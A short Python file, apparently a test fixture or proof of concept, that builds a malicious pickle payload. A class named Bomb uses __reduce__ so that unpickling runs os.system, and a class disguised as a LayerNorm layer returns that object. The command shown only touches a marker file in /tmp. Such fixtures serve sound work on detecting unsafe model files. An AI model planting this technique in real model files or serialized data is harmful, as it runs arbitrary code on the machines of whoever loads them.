"""Returns an object that runs code when it is unpickled."""

import os

class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile_pickle",)

class LayerNorm:
    def forward(self, inputs):
        return Bomb()
